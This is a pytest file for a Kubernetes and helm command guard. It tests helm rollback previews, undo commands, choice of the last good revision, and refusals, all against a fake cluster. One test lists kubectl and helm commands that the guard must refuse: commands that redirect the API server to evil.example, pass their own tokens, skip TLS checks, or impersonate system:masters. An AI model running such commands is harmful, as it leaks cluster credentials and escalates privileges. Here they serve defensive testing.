"""What the API server's and helm's answers mean, without a cluster: previews, ways back, reach, guards, refusals."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from handrail.targets import kubernetes
from handrail.targets.base import Answer, Ask, Permit, Prospect
from handrail.targets.ground import GroundSettings, RealGround
from handrail.targets.masking import Masker

NOW = datetime(2026, 5, 4, 12, 0, tzinfo=UTC)


class Cluster:
    """Answers what it was told to, and keeps what it was asked as whom."""

    def __init__(self, answers: Mapping[str, object] | None = None) -> None:
        self.answers = dict(answers or {})
        self.asked: list[tuple[str, tuple[str, ...]]] = []

    def __call__(self, identity: str, words: tuple[str, ...], feed: bytes | None = None) -> Answer:
        """The first answer whose words stand in the question."""
        self.asked.append((identity, words))
        line = " ".join(words)
        for part, answer in self.answers.items():
            if part in line:
                if isinstance(answer, Answer):
                    return answer
                return said(answer if isinstance(answer, str) else json.dumps(answer))
        return refused(f"no answer for {line}")


def said(text: str, **more: Any) -> Answer:
    """An answer."""
    return Answer(stdout=text, exit_codes=(0,), started_at=NOW, seconds=0.1, **more)


def refused(text: str) -> Answer:
    """The API server's refusal."""
    return Answer(stderr=text, exit_codes=(1,), started_at=NOW, seconds=0.1)


def prospect(text: str | Sequence[str], cluster: Cluster) -> Prospect:
    """What a command would do."""
    words = tuple(text.split()) if isinstance(text, str) else tuple(text)
    ask = Ask(target="kubernetes", identity="change", stages=(words,))
    return kubernetes.helm_prospect(ask, run=cluster, key="lab/production")


# -- words -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("kubectl patch deployment api -n production -p {}", ("deployment", "api", "production")),
        ("kubectl patch -n production deployment api -p {}", ("deployment", "api", "production")),
        ("kubectl -n production patch deployment api -p {}", ("deployment", "api", "production")),
        ("kubectl --namespace=production -v 5 rollout restart deploy/api", ("deployment", "api", "production")),
        ("kubectl scale deploy/api --replicas=5", ("deployment", "api", "here")),
        ("kubectl scale --replicas 5 deploy/api -nproduction", ("deployment", "api", "production")),
        ("kubectl rollout restart sts/db --namespace=data", ("statefulset", "db", "data")),
        ("kubectl set env deployment/api A=b -n=x", ("deployment", "api", "x")),
        ("kubectl delete pod p -n a -n b", ("pod", "p", "b")),
        ("kubectl delete pod", None),
        ("kubectl get", None),
    ],
)
def test_the_object_that_a_command_names(text: str, expected: tuple[str, str, str] | None) -> None:
    """In either order, with a slash or without, in the last namespace that is named."""
    found = kubernetes.object_of(kubernetes.verb_first(tuple(text.split())), "here")
    assert (found and (found.kind, found.name, found.namespace)) == expected


@pytest.mark.parametrize(
    "text",
    [
        "kubectl get pods --kubeconfig=/root/.kube/config",
        "kubectl get pods --kubeconfig /root/.kube/config",
        "kubectl --context prod get pods",
        "kubectl get pods --server=https://evil.example",
        "kubectl get pods -s https://evil.example",
        "kubectl get pods -shttps://evil.example",
        "kubectl get pods --insecure-skip-tls-verify",
        "kubectl get pods --token=x",
        "kubectl get pods --as=system:admin",
        "kubectl exec p --as-group=system:masters -- sh",
        "helm list --kube-apiserver https://evil.example",
        "helm list --kube-token=x",
        "helm upgrade a ./c --post-renderer ./x",
    ],
)
def test_a_command_cannot_name_its_own_cluster_or_credential(text: str, tmp_path: Path) -> None:
    """Neither when looking nor in a preview nor with a permit: the token would go to another server."""
    config = tmp_path / "config.yaml"
    config.write_text("{}")
    (tmp_path / "tools").mkdir()
    for name in ("kubectl", "helm"):
        tool = tmp_path / "tools" / name
        tool.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
        tool.chmod(0o755)
    names = ("look", "look_inside", "releases", "preview", "change")
    settings = GroundSettings(name="lab", tools=str(tmp_path / "tools"), kubeconfigs=dict.fromkeys(names, str(config)))
    ground = RealGround(settings, masker=Masker(), scratch=tmp_path / "scratch")
    ask = Ask(target="kubernetes", identity="look", stages=(tuple(text.split()),))
    assert (
        "is the environment's to say" in ground.observe(ask).refused or "another program" in ground.observe(ask).refused
    )
    assert ground.prospect(ask).preview.refused
    assert ground.change(ask, Permit(plan="p", command_index=0, approved_by="ana")).refused
    assert not (tmp_path / "ran").exists()
    ground.observe(Ask(target="kubernetes", identity="look", stages=(("kubectl", "get", "pods"),)))
    assert (tmp_path / "ran").exists()  # and the same tool runs where nothing of that is named


def test_what_runs_inside_a_container_has_its_own_words() -> None:
    """`--server` there is somebody else's flag."""
    assert kubernetes.elsewhere(("kubectl", "exec", "p", "--", "redis-cli", "--user", "x", "-s", "y")) == ""
    assert kubernetes.elsewhere(("helm", "template", ".", "-s", "templates/a.yaml")) == ""
    assert kubernetes.elsewhere(("kubectl", "get", "pods", "--selector=app=x", "--since=5m")) == ""


# -- helm --------------------------------------------------------------------------------------------------------------


def release(revision: int, status: str, minute: int) -> dict[str, Any]:
    """One line of helm's history."""
    at = (NOW + timedelta(minutes=minute)).isoformat()
    return {"revision": revision, "status": status, "updated": at, "description": ""}


HISTORY = [
    release(5, "superseded", -50),
    release(6, "superseded", -40),
    release(7, "failed", -35),
    release(8, "deployed", -5),
]


def manifest(*names: str, image: str = "api:1") -> str:
    """Deployments of these names."""
    return "".join(
        f"---\nkind: Deployment\nmetadata:\n  name: {name}\nspec:\n  replicas: 2\n  template: {{image: '{image}'}}\n"
        for name in names
    )


def diffed(*names: str) -> Answer:
    """`kubectl diff`, which ends with 1 where something differs."""
    text = "".join(
        f"diff -u -N /tmp/LIVE-1/apps.v1.Deployment.production.{name} /tmp/MERGED-2/apps.v1.Deployment.production.{name}\n"
        f"--- /tmp/LIVE-1/x\n+++ /tmp/MERGED-2/x\n@@ -1 +1 @@\n-  generation: 8\n+  generation: 9\n-  image: api:8\n+  image: api:6\n"
        for name in names
    )
    return Answer(stdout=text, exit_codes=(1 if names else 0,), started_at=NOW, seconds=0.1)


def helm(**more: object) -> Cluster:
    """A release with that history."""
    return Cluster(
        {
            "history": HISTORY,
            "--revision 6": manifest("api", "web"),
            "helm get manifest": manifest("api", "web", "extra", image="api:8"),
            "kubectl diff": diffed("api"),
            **more,
        }
    )


def test_a_rollbacks_preview_is_ours() -> None:
    """helm's own says nothing: the revision's manifest is laid beside what is live."""
    cluster = helm()
    found = prospect("helm rollback azora-prod 6 -n production", cluster)
    assert found.preview.says == "1 object would differ; Deployment extra would be deleted"
    assert found.preview.detail == "Deployment/api\n-  image: api:8\n+  image: api:6"
    assert found.undo.stages == (("helm", "rollback", "azora-prod", "8", "-n", "production"),)
    assert found.reach.counts == {"pods": 2, "deleted": 1, "created": 0}
    (guard,) = found.guards
    assert (guard.kind, guard.subject, guard.value) == ("release", "production/azora-prod", "8")
    assert {identity for identity, _ in cluster.asked} == {"releases", "preview"}
    assert not any(words[:2] == ("helm", "rollback") for _, words in cluster.asked)


def test_a_rollback_that_would_touch_nothing_says_so() -> None:
    """Then it is passed over."""
    same = helm(**{"--revision 6": manifest("api"), "helm get manifest": manifest("api"), "kubectl diff": diffed()})
    same.answers = {"--revision 6": manifest("api"), **same.answers}
    assert prospect("helm rollback azora-prod 6 -n production", same).preview.changes_nothing


@pytest.mark.parametrize(
    ("text", "more", "why"),
    [
        (
            "helm rollback azora-prod 1 -n production",
            {},
            "revision 1 of azora-prod is not kept any more; helm has 5 to 8",
        ),
        (
            "helm rollback other 6 -n production",
            {"history": refused("not found")},
            "helm knows no release other in production",
        ),
        (  # also after one that was broken off: that nothing differs does not make it whole
            "helm rollback azora-prod 6 -n production",
            {"history": [*HISTORY, release(9, "pending-rollback", -1)]},
            "helm has not finished with revision 9 of azora-prod (pending-rollback): wait for it, or see who broke it off",
        ),
        ("helm rollback azora-prod 6 -n production", {"kubectl diff": refused("")}, ""),
        ("helm rollback azora-prod 6 -n production", {"history": said("[{}]")}, "helm knows no release"),
        ("helm rollback azora-prod 6 -n production", {"history": said("{")}, "helm knows no release"),
        (
            "helm rollback azora-prod 6 -n production",
            {"--revision 6": said(manifest("api"), truncated=True)},
            "helm gave no manifest: it came only in part",
        ),
    ],
)
def test_a_rollback_that_cannot_be_is_refused_with_the_reason(text: str, more: dict[str, object], why: str) -> None:
    """In helm's or in our words."""
    found = prospect(text, Cluster({**helm().answers, **more}))
    if why:
        assert why in found.preview.refused
    assert found.undo.says == ("nothing would change" if why else found.undo.says)


def aim(text: str, history: object, *, bad: int) -> Any:
    """A rollback's better aim, the first bad sample so many minutes from now."""
    ask = Ask(target="helm", identity="change", stages=(tuple(text.split()),))
    return kubernetes.aim_revision(ask, run=Cluster({"history": history}), first_bad_at=NOW + timedelta(minutes=bad))


def test_the_last_good_revision_is_the_newest_that_was_replaced_before_the_trouble() -> None:
    """The failed one in between is skipped."""
    found = aim("helm rollback azora-prod 1 -n production", HISTORY, bad=-4)
    assert found.value == "6"
    assert "60 s after revision 8 was deployed; revision 6 was the last good one" in found.says


def test_where_the_newest_upgrade_failed_the_one_before_it_is_the_last_good_one() -> None:
    """Helm calls it `deployed` still."""
    history = said(
        json.dumps(
            [
                {"revision": 5, "status": "deployed", "updated": NOW.isoformat(), "description": ""},
                {
                    "revision": 6,
                    "status": "failed",
                    "updated": (NOW + timedelta(minutes=1)).isoformat(),
                    "description": "",
                },
            ]
        )
    )
    found = aim("helm rollback azora-prod 1 -n production", history, bad=2)
    assert found.value == "5"
    assert "60 s after revision 6 was deployed; revision 5 was the last good one" in found.says


def test_what_was_rolled_back_was_not_good() -> None:
    """Revision 6 could not start and was rolled back as written; what revision 1 broke is not mended by 6."""
    history = [
        release(5, "superseded", -50),
        release(6, "superseded", -10),
        {**release(7, "deployed", -5), "description": "Rollback to 1"},
    ]
    found = aim("helm rollback azora-prod 1 -n production", said(json.dumps(history)), bad=-4)
    assert found.value == "5"
    assert "60 s after revision 7 was deployed; revision 5 was the last good one" in found.says


def test_a_rollback_that_served_is_good_itself() -> None:
    history = [
        release(5, "superseded", -50),
        release(6, "superseded", -40),
        {**release(7, "superseded", -30), "description": "Rollback to 5"},
        release(8, "deployed", -5),
    ]
    assert aim("helm rollback azora-prod 1 -n production", said(json.dumps(history)), bad=-4).value == "7"


def test_where_the_text_names_it_there_is_no_better_aim() -> None:
    """And none for what is no rollback."""
    assert aim("helm rollback azora-prod 6 -n production", HISTORY, bad=-4) is None
    assert aim("kubectl scale deploy/x --replicas=1", HISTORY, bad=-4) is None


@pytest.mark.parametrize(
    "history", [[release(1, "deployed", -50)], [], [release(1, "failed", -50), release(2, "deployed", -40)]]
)
def test_without_a_good_revision_a_person_says(history: list[dict[str, Any]]) -> None:
    """The first ever, or only failed ones before."""
    found = aim("helm rollback azora-prod 1 -n production", history, bad=-4)
    assert found.value == ""
    assert "No revision of azora-prod is known to have been good" in found.says


def test_trouble_that_began_before_the_last_release_blames_the_one_before() -> None:
    """What was replaced after the first bad sample was bad already."""
    assert aim("helm rollback azora-prod 1 -n production", HISTORY, bad=-38).value == "5"
